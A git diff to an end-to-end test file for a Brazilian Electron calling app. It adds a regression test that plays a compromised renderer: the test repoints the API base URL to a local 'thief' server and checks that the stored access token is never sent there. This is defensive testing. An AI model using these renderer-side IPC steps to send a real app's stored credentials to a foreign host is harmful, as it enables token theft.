@@ -1,12 +1,14 @@
 import { randomUUID } from 'node:crypto'
 import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import keytar from 'keytar'
 import type { Page } from 'playwright-core'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import { fail } from '../../main/core/appFailure'
-import { TOKEN_ACCOUNT } from '../../main/services/backend'
+import { decodeStoredToken, TOKEN_ACCOUNT } from '../../main/services/backend'
 import { startSimulator, type Simulator } from '../../main/simulator/server'
 import { bootApp, screenshot, type BootedApp } from './harness/bootApp'
 
@@ -71,6 +73,12 @@ describe('account and settings', () => {
     await api.close()
     rmSync(userDataDir, { recursive: true, force: true })
   })
+
+  /** The token in the real keychain (stored with the origin it was validated at). */
+  const storedToken = async (): Promise<string | null> => {
+    const raw = await keytar.getPassword(service, TOKEN_ACCOUNT)
+    return raw === null ? null : decodeStoredToken(raw).token
+  }
 
   const boot = async (extra: Parameters<typeof bootApp>[0] = {}) => {
     booted = await bootApp({
@@ -148,7 +156,7 @@ describe('account and settings', () => {
     expect(balance?.replace(/\s/g, ' ')).toBe('R$ 87,50')
     expect(await page.getByTestId('account-mode').textContent()).toBe('Conta real')
     expect(await page.getByTestId('account-host').textContent()).toBe(new URL(api.url).host)
-    expect(await keytar.getPassword(service, TOKEN_ACCOUNT)).toBe(CANARY)
+    expect(await storedToken()).toBe(CANARY)
     await expect.poll(() => page.getByTestId('demo-badge').count()).toBe(0)
 
     await page.emulateMedia({ colorScheme: 'light' })
@@ -177,7 +185,7 @@ describe('account and settings', () => {
     // Disconnect asks first, then deletes the token from the keychain.
     await page.getByRole('button', { name: 'Desconectar' }).click()
     await page.getByRole('alertdialog').waitFor()
-    expect(await keytar.getPassword(service, TOKEN_ACCOUNT)).toBe(CANARY)
+    expect(await storedToken()).toBe(CANARY)
     await page.getByRole('button', { name: 'Sim, apagar o token' }).click()
     await expect
       .poll(() => page.getByTestId('account-mode').textContent())
@@ -196,7 +204,7 @@ describe('account and settings', () => {
     await expect
       .poll(() => page.getByTestId('account-mode').textContent())
       .toBe('Demonstração (simulador)')
-    expect(await keytar.getPassword(service, TOKEN_ACCOUNT)).toBe(CANARY)
+    expect(await storedToken()).toBe(CANARY)
     await page.getByRole('button', { name: 'Usar minha conta' }).click()
     await expect.poll(() => page.getByTestId('account-mode').textContent()).toBe('Conta real')
   })
@@ -253,5 +261,58 @@ describe('account and settings', () => {
       ok: true,
       value: { settings: { apiBaseUrl: 'https://voice-api.zenvia.com' } },
     })
+  })
+
+  it('a compromised renderer cannot send the stored token to another host (issue 8, defect 2)', async () => {
+    // Another loopback origin that records every request and every Access-Token it sees.
+    const seen: Array<{ path: string; token: string | undefined }> = []
+    const thief = createServer((req, res) => {
+      seen.push({ path: req.url ?? '', token: req.headers['access-token'] as string | undefined })
+      res.writeHead(200, { 'Content-Type': 'application/json' })
+      res.end(
+        JSON.stringify({
+          status: 200,
+          sucesso: true,
+          motivo: 0,
+          mensagem: 'ok',
+          dados: { saldo: 1 },
+        }),
+      )
+    })
+    await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve))
+    const thiefUrl = `http://localhost:${(thief.address() as AddressInfo).port}`
+    try {
+      const { page } = await boot()
+      await openSettings(page)
+      await pointApiAt(page, api.url)
+      await connectWith(page, CANARY)
+      await expect.poll(() => page.getByTestId('account-mode').textContent()).toBe('Conta real')
+
+      // What injected code in the renderer could do: the real IPC calls, straight from the page.
+      const replies = await page.evaluate(async (url) => {
+        const api = window.disca
+        const results: unknown[] = []
+        results.push(await api['settings:update']({ apiBaseUrl: url }))
+        results.push(await api['account:set-mode']('live'))
+        results.push(await api['account:summary']())
+        results.push(await api['dial:prepare']('11987654321', {}))
+        return results
+      }, thiefUrl)
+
+      expect(seen.filter((request) => request.token !== undefined)).toEqual([])
+      expect(JSON.stringify(seen)).not.toContain(CANARY)
+      expect(replies[1]).toMatchObject({ ok: false, error: { code: 'invalid_token' } })
+      // The rep is told, in pt-BR, on every screen: the app is in demo mode until reconnected.
+      await expect
+        .poll(() => page.getByRole('alert').allTextContents())
+        .toContainEqual(expect.stringMatching(/não é enviado para lá/))
+      await expect
+        .poll(() => page.getByTestId('account-mode').textContent())
+        .toBe('Demonstração (simulador)')
+      expect(await storedToken()).toBe(CANARY)
+    } finally {
+      thief.closeAllConnections()
+      await new Promise((resolve) => thief.close(resolve))
+    }
   })
 })
